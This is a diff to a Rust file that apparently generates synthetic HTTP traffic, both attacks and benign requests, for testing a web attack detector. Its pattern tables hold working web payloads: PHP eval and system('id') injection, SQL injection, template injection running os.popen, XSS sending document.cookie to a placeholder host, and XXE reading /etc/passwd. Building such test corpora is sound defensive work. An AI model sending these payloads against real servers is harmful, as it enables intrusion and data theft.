@@ -63,7 +63,11 @@ const CODE: &[Pattern] = &[
     target("/index.php?f=phpinfo()%3B&v=eval(base64_decode(%27cGhwaW5mbygpOw%3D%3D%27))"),
     post("/upload/run.php", FORM, "z{n}=eval%28base64_decode%28%24_POST%5B%27{w}%27%5D%29%29%3B"),
     target("/{w}.php?data=%3C%3Fphp%20echo%20shell_exec(%22id%22)%3B%20%3F%3E"),
-    post("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", FORM, "<?php echo md5('{w}'); system('id'); ?>"),
+    post(
+        "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
+        FORM,
+        "<?php echo md5('{w}'); system('id'); ?>",
+    ),
 ];
 
 const COMMAND: &[Pattern] = &[
@@ -87,7 +91,10 @@ const JNDI: &[Pattern] = &[
 const SCANNER: &[Pattern] = &[
     header("/", "User-Agent: sqlmap/1.7.{n}#stable (https://sqlmap.org)"),
     header("/{w}/", "User-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{n})"),
-    header("/", "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"),
+    header(
+        "/",
+        "User-Agent: Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+    ),
     header("/{w}", "User-Agent: masscan/1.3 (https://github.com/robertdavidgraham/masscan)"),
     header("/{w}-{n}", "User-Agent: gobuster/3.6"),
     header("/{w}", "User-Agent: Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"),
@@ -119,18 +126,30 @@ const SQLI: &[Pattern] = &[
     target("/product?pid={n}%20or%20{n}={n}--"),
     target("/view?id={n}%3B%20DROP%20TABLE%20{w}%3B--"),
     target("/show?id={n}%20AND%20SLEEP(5)"),
-    target("/item?id={n}%27%20AND%20(SELECT%20{n}%20FROM(SELECT%20COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x%20FROM%20information_schema.tables%20GROUP%20BY%20x)a)--%20-"),
+    target(
+        "/item?id={n}%27%20AND%20(SELECT%20{n}%20FROM(SELECT%20COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x%20FROM%20information_schema.tables%20GROUP%20BY%20x)a)--%20-",
+    ),
     target("/q?id={n}%3BWAITFOR%20DELAY%20%270:0:5%27--"),
     post("/login", FORM, "user=admin%27+OR+%271%27%3D%271%27+--+&password={w}"),
-    post("/api/v1/search", JSON, "{\"filter\":\"{w}' UNION SELECT table_name, null FROM information_schema.tables -- \",\"page\":{n}}"),
+    post(
+        "/api/v1/search",
+        JSON,
+        "{\"filter\":\"{w}' UNION SELECT table_name, null FROM information_schema.tables -- \",\"page\":{n}}",
+    ),
     header("/account", "Cookie: session={x}; uid=1' OR '1'='1' -- "),
 ];
 
 const TEMPLATE: &[Pattern] = &[
     target("/hello?name=%7B%7B{n}*{n}%7D%7D%7B%7Bconfig.__class__.__init__.__globals__%7D%7D"),
     target("/preview?tpl=%7B%7B%27%27.__class__.__mro__%5B1%5D.__subclasses__()%7D%7D"),
-    post("/render", FORM, "body=%3C%23assign+ex%3D%22freemarker.template.utility.Execute%22%3Fnew%28%29%3E%24%7Bex%28%22id%22%29%7D"),
-    target("/card?to=%7B%7Brequest.application.__globals__.__builtins__.__import__(%27os%27).popen(%27id%27).read()%7D%7D"),
+    post(
+        "/render",
+        FORM,
+        "body=%3C%23assign+ex%3D%22freemarker.template.utility.Execute%22%3Fnew%28%29%3E%24%7Bex%28%22id%22%29%7D",
+    ),
+    target(
+        "/card?to=%7B%7Brequest.application.__globals__.__builtins__.__import__(%27os%27).popen(%27id%27).read()%7D%7D",
+    ),
 ];
 
 const TRAVERSAL: &[Pattern] = &[
@@ -149,12 +168,24 @@ const XSS: &[Pattern] = &[
     target("/go?u=javascript:alert(String.fromCharCode(88,83,83))&t=%3Csvg/onload=alert({n})%3E"),
     target("/tag?t=%3Csvg%20onload=fetch(%27//{ip}/%27%2Bdocument.cookie)%3E"),
     post("/comment", FORM, "name={w}&text=%3Cscript+src%3D%2F%2F{ip}%2F{x}.js%3E%3C%2Fscript%3E"),
-    post("/api/comment", JSON, "{\"author\":\"{w}\",\"text\":\"<img src=x onerror=\\\"eval(atob('YWxlcnQoMSk='))\\\">\"}"),
+    post(
+        "/api/comment",
+        JSON,
+        "{\"author\":\"{w}\",\"text\":\"<img src=x onerror=\\\"eval(atob('YWxlcnQoMSk='))\\\">\"}",
+    ),
 ];
 
 const XXE: &[Pattern] = &[
-    post("/api/import", XML, "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r><name>{w}</name><text>&x;</text></r>"),
-    post("/soap", XML, "<?xml version=\"1.0\" encoding=\"utf-8\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://{ip}/{x}.dtd\"> %d;]><r>{n}</r>"),
+    post(
+        "/api/import",
+        XML,
+        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r><name>{w}</name><text>&x;</text></r>",
+    ),
+    post(
+        "/soap",
+        XML,
+        "<?xml version=\"1.0\" encoding=\"utf-8\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://{ip}/{x}.dtd\"> %d;]><r>{n}</r>",
+    ),
 ];
 
 /// Honest requests, those among them that a careless detector takes for attacks included.
@@ -178,9 +209,17 @@ const BENIGN: &[Pattern] = &[
     target("/list?page={n}&sort=name&order=desc&limit=20"),
     target("/account?next=%2Forders%2F{n}"),
     header("/basket", "Cookie: sid={x}{x}; _ga=GA1.2.{n}.1335830400; consent={\"ads\":false,\"stats\":true}"),
-    post("/contact", FORM, "name=J.+O%27Neill&email={w}%40mail.example&message=Hello%2C+I+can%27t+log+in+--+please+help%21"),
+    post(
+        "/contact",
+        FORM,
+        "name=J.+O%27Neill&email={w}%40mail.example&message=Hello%2C+I+can%27t+log+in+--+please+help%21",
+    ),
     post("/login", FORM, "user={w}&password=pa%24%24w0rd%21{n}&remember=1"),
-    post("/api/cart", JSON, "{\"items\":[{\"id\":{n},\"count\":2}],\"note\":\"leave at the door; thanks & bye\"}"),
+    post(
+        "/api/cart",
+        JSON,
+        "{\"items\":[{\"id\":{n},\"count\":2}],\"note\":\"leave at the door; thanks & bye\"}",
+    ),
     post("/api/feedback", JSON, "{\"text\":\"the <b>new</b> page is 10% faster, isn't it?\",\"stars\":5}"),
 ];
 
@@ -195,8 +234,8 @@ const BROWSERS: &[&str] = &[
 ];
 
 const WORDS: &[&str] = &[
-    "harbour", "lantern", "willow", "orchard", "granite", "meadow", "copper", "thistle", "saffron", "juniper",
-    "marble", "heron", "cobalt", "barley", "quartz", "linden",
+    "harbour", "lantern", "willow", "orchard", "granite", "meadow", "copper", "thistle", "saffron",
+    "juniper", "marble", "heron", "cobalt", "barley", "quartz", "linden",
 ];
 
 impl Kind {
@@ -247,35 +286,37 @@ pub fn benign(host: &str, random: &mut Random) -> Vec<u8> {
 }
 
 /// Bytes of the cookie that makes some requests longer than one segment.
-const LONG_COOKIE_BYTES: u64 = 4_000;
+const LONG_COOKIE_BYTES: (u64, u64) = (1_000, 4_000);
 
 fn write(pattern: &Pattern, host: &str, random: &mut Random) -> Vec<u8> {
     let browser = *random.pick(BROWSERS);
     let body = pattern.body.map(|(kind, text)| (kind, fill(text, random)));
     let method = if body.is_some() { "POST" } else { "GET" };
-    let mut text = format!("{method} {} HTTP/1.1\r\nHost: {host}\r\n", fill(pattern.target, random));
+    let mut lines =
+        vec![format!("{method} {} HTTP/1.1", fill(pattern.target, random)), format!("Host: {host}")];
     if !pattern.header.starts_with("User-Agent:") {
-        text.push_str(&format!("User-Agent: {browser}\r\n"));
+        lines.push(format!("User-Agent: {browser}"));
     }
-    text.push_str("Accept: text/html,application/xhtml+xml,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.5\r\n");
+    lines.push("Accept: text/html,application/xhtml+xml,*/*;q=0.8".to_owned());
+    lines.push("Accept-Language: en-US,en;q=0.5".to_owned());
     if !pattern.header.is_empty() {
-        text.push_str(&fill(pattern.header, random));
-        text.push_str("\r\n");
+        lines.push(fill(pattern.header, random));
     }
     if random.chance(6) && !pattern.header.starts_with("Cookie:") {
-        text.push_str("Cookie: prefs=");
-        for _ in 0..random.between(1_000, LONG_COOKIE_BYTES) / 8 {
-            text.push_str(&format!("{:08x}", random.next() as u32));
-        }
-        text.push_str("\r\n");
+        let words = random.between(LONG_COOKIE_BYTES.0, LONG_COOKIE_BYTES.1) / 8;
+        let value: String = (0..words).map(|_| hex(random)).collect();
+        lines.push(format!("Cookie: prefs={value}"));
     }
-    match body {
-        Some((kind, body)) => {
-            text.push_str(&format!("Content-Type: {kind}\r\nContent-Length: {}\r\n\r\n{body}", body.len()));
-        }
-        None => text.push_str("\r\n"),
+    let (kind, body) = body.unwrap_or_default();
+    if !body.is_empty() {
+        lines.push(format!("Content-Type: {kind}"));
+        lines.push(format!("Content-Length: {}", body.len()));
     }
-    text.into_bytes()
+    format!("{}\r\n\r\n{body}", lines.join("\r\n")).into_bytes()
+}
+
+fn hex(random: &mut Random) -> String {
+    format!("{:08x}", random.next() as u32)
 }
 
 /// The pattern with its placeholders filled in; braces that are no placeholder stay.
@@ -288,8 +329,11 @@ fn fill(pattern: &str, random: &mut Random) -> String {
         match name {
             "n" => text.push_str(&random.between(2, 9_999).to_string()),
             "w" => text.push_str(random.pick::<&str>(WORDS)),
-            "x" => text.push_str(&format!("{:08x}", random.next() as u32)),
-            "ip" => text.push_str(&format!("192.0.2.{}", random.between(1, 254))),
+            "x" => text.push_str(&hex(random)),
+            "ip" => {
+                text.push_str("192.0.2.");
+                text.push_str(&random.between(1, 254).to_string());
+            }
             _ => {
                 text.push('{');
                 rest = after;
@@ -305,13 +349,15 @@ fn fill(pattern: &str, random: &mut Random) -> String {
 /// A small reply: status line, headers, body.
 pub fn reply(attack: bool, random: &mut Random) -> Vec<u8> {
     let status = match (attack, random.below(10)) {
-        (true, 0..=4) => "404 Not Found",
+        (true, 0..=4) | (false, 0) => "404 Not Found",
         (true, 5..=7) => "403 Forbidden",
-        (false, 0) => "404 Not Found",
         _ => "200 OK",
     };
     let filler = "<p>The page is kept short.</p>".repeat(random.between(1, 6) as usize);
     let body = format!("<!doctype html><title>{status}</title>{filler}");
-    format!("HTTP/1.1 {status}\r\nServer: httpd\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{body}", body.len())
-        .into_bytes()
+    format!(
+        "HTTP/1.1 {status}\r\nServer: httpd\r\nContent-Type: text/html\r\nContent-Length: {}\r\n\r\n{body}",
+        body.len()
+    )
+    .into_bytes()
 }
